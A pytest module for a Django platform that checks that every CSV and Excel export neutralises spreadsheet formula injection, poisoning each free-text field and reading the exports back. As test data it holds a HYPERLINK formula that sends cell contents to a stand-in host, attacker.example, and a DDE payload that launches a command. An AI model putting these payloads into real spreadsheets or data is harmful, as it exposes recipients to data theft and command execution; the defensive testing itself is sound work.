"""No CSV or Excel file the platform writes holds a live formula: the OWASP rule, in one place
(``r1540.core.spreadsheets``), used by every export. The end-to-end test fills every free-text
field of a small world with a formula and reads every export back, as the Committee and as the
public."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
import tablib
from django.apps import apps
from django.db import models
from django.db.models import F, Value
from django.db.models.functions import Concat, Left
from django.urls import resolve, reverse
from openpyxl import load_workbook

from r1540.core import spreadsheets
from r1540.core.roles import PUBLIC, Role
from r1540.core.tests.test_permissions import CASES
from r1540.core.views.generic import ObjectListView

HOSTILE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
PACKAGE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Plain title", "Plain title"),
        ("", ""),
        ("-12.5", "-12.5"),  # a number written as text cannot run
        ("+3", "+3"),
        (-12, -12),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_a_cell_that_could_run_gets_an_apostrophe_and_numbers_stay_numbers(value, expected):
    assert spreadsheets.neutralised(value) == expected


def test_reading_back_gives_the_text_that_was_written():
    for text in ("=1+2", "-note", "@home", "'quoted", "plain", "-3"):
        assert spreadsheets.unneutralised(spreadsheets.neutralised(text)) == text


def test_a_dataset_is_neutralised_headings_included_and_the_original_left_alone():
    dataset = tablib.Dataset(["=bad", -1, "fine"], headers=["@head", "n", "ok"], title="T")
    safe = spreadsheets.neutralised_dataset(dataset)
    assert safe.headers == ["'@head", "n", "ok"]
    assert list(safe[0]) == ["'=bad", -1, "fine"]
    assert dataset[0][0] == "=bad"
    assert _xlsx_cells(spreadsheets.dataset_xlsx(dataset)) == [("'@head", "s"), ("n", "s"), ("ok", "s")] + [
        ("'=bad", "s"),
        (-1, "n"),
        ("fine", "s"),
    ]


#: The only modules that may write a spreadsheet directly (the review workbook neutralises each
#: line itself, so that it can read the State's answers back through ``unneutralised``).
WRITERS = {"core/spreadsheets.py": r".", "matrices/workbook.py": r"Workbook\(\)"}
WRITING = re.compile(r"csv\.(writer|DictWriter)\(|\.export\(\s*[\"'](csv|xlsx|xls|ods|tsv)|Workbook\(\)|xlsxwriter")


def test_every_spreadsheet_is_written_through_the_one_module():
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE).as_posix()
        if "/tests/" in relative or relative.startswith("core/testing/"):
            continue
        for match in WRITING.finditer(path.read_text()):
            allowed = WRITERS.get(relative)
            if not (allowed and re.match(allowed, match.group(0))):
                offenders.append("{}: {}".format(relative, match.group(0)))
    assert offenders == [], "write CSV and Excel through r1540.core.spreadsheets"


def test_the_review_workbook_neutralises_and_reads_its_own_text_back():
    from r1540.matrices import workbook
    from r1540.matrices.diffing import Cell

    key = ("1", "", "")
    cell = Cell(value="X", instrument="=HYPERLINK(1)", remarks="-see article 5", source="@ministry")
    data = workbook.build(
        version_id=7,
        title="=title",
        headers=list(workbook.COLUMNS),
        lines=[workbook.Line(key=key, title="+row", cell=cell)],
    )
    assert not [value for value, kind in _xlsx_cells(data) if kind == "f"]
    upload = workbook.read(data, version_id=7, fields={key: cell})
    assert upload.errors == []
    assert upload.proposals == []  # nothing changed: the apostrophes were taken off again


# --- Every export URL, with every free-text field of the world holding a formula ---------------


#: Codes the platform reads (coded lists checked against a vocabulary on input, keys, digests,
#: route names): never free text, so never a formula.
CODES = {
    "password",
    "language",
    "areas",
    "weapons",
    "types",
    "columns",
    "regions",
    "languages_served",
    "recipients",
    "embedding_key",
    "confidence",
    "batch",
    "letter_code",
    "source_digest",
    "url_name",
    "url",
    "section",
    "original_language",
}


def _poisonable(model) -> list[models.Field]:
    together = {name for names in model._meta.unique_together for name in names}
    for constraint in model._meta.constraints:
        together.update(getattr(constraint, "fields", ()) or ())
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, (models.CharField, models.TextField))
        and not isinstance(field, (models.SlugField, models.EmailField, models.URLField))
        and not (field.choices or field.unique or field.primary_key or field.name in together)
        and field.name not in CODES
    ]


def _poison_every_text_field() -> None:
    """Put the formula in front of every free-text value (codes, choices and keys left alone)."""
    for model in apps.get_models():
        if not model.__module__.startswith("r1540.") or model._meta.proxy or not model._meta.managed:
            continue
        updates = {}
        for field in _poisonable(model):
            poisoned = Concat(Value(HOSTILE), F(field.attname), output_field=field)
            updates[field.attname] = Left(poisoned, field.max_length) if field.max_length else poisoned
        if updates:
            model._default_manager.update(**updates)


def _export_requests(world) -> list[tuple[str, str, str]]:
    """(label, url, format) for every spreadsheet the site offers, from the permission cases."""
    found = {}
    for case in CASES:
        if case.method != "get":
            continue
        kwargs, data = case.kwargs(world), case.data(world)
        url = reverse(case.url_name, kwargs=kwargs)
        view = resolve(url).func
        kinds = {value for value in (*kwargs.values(), *data.values()) if value in ("csv", "xlsx")}
        if issubclass(getattr(view, "view_class", object), ObjectListView):
            for kind in ("csv", "xlsx"):
                found[(url, kind)] = ("{} {}".format(case.url_name, kind), "{}?_export={}".format(url, kind), kind)
        elif kinds:
            # A ``kind`` offers both formats: the other format of the same download too.
            twins = ("csv", "xlsx") if "kind" in {**kwargs, **data} else kinds
            for kind in twins:
                other_kwargs = {name: (kind if value in kinds else value) for name, value in kwargs.items()}
                other_data = {name: (kind if value in kinds else value) for name, value in data.items()}
                other = reverse(case.url_name, kwargs=other_kwargs)
                query = "&".join("{}={}".format(name, value) for name, value in other_data.items())
                found[(other, query)] = (
                    "{} {}".format(case.url_name, kind),
                    "{}?{}".format(other, query) if query else other,
                    kind,
                )
        elif case.url_name == "matrices:version_workbook":
            found[(url, "workbook")] = (case.url_name, url, "xlsx")
    # Downloads whose permission case shows the page, not the file.
    trends = reverse("matrices:trends")
    found[(trends, "csv")] = ("matrices:trends csv", trends + "?format=csv", "csv")
    return sorted(found.values())


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(content: bytes) -> list[tuple]:
    book = load_workbook(io.BytesIO(content))
    return [(cell.value, cell.data_type) for sheet in book for row in sheet.iter_rows() for cell in row]


def _live(cells) -> list:
    return [cell for cell in cells if spreadsheets.neutralised(cell) != cell]


def test_no_export_holds_a_live_formula(client, world, cast):
    from r1540.analytics.models import PageViewDay

    # A path always starts with "/"; the row stands for any text the report may carry one day.
    PageViewDay.objects.create(view_date=world["today"], url_name="public:home", path=HOSTILE, language="en", views=3)
    _poison_every_text_field()
    requests = _export_requests(world)
    assert len(requests) > 40  # every list page twice, the matrix downloads, the reports
    reached, problems = set(), []
    for role in (Role.ADMINISTRATOR, PUBLIC):
        client.logout()
        if cast[role] is not None:
            client.force_login(cast[role])
        for label, url, kind in requests:
            response = client.get(url)
            if response.status_code in (302, 403, 404) and role == PUBLIC:
                continue
            assert response.status_code == 200, "{} as {}: {}".format(url, role, response.status_code)
            content = b"".join(response) if response.streaming else response.content
            if kind == "csv":
                assert "csv" in response["Content-Type"], url
                cells = _csv_cells(content)
            else:
                assert "spreadsheetml" in response["Content-Type"], url
                typed = _xlsx_cells(content)
                problems += ["{} as {}: formula {!r}".format(label, role, v) for v, t in typed if t == "f"]
                cells = [value for value, _type in typed]
            problems += ["{} as {}: {!r}".format(label, role, cell) for cell in _live(cells)]
            if any(isinstance(cell, str) and cell.startswith("'" + HOSTILE[:10]) for cell in cells):
                reached.add(label.split(" ")[0])
    assert problems == []
    # The formula did reach the files the issue names, shown as text.
    assert {
        "assistance:request_list",
        "assistance:offer_list",
        "directory:pointofcontact_list",
        "matrices:published_export",
        "matrices:version_document",
        "matrices:version_workbook",
        "analytics:website_use",
    } <= reached, reached
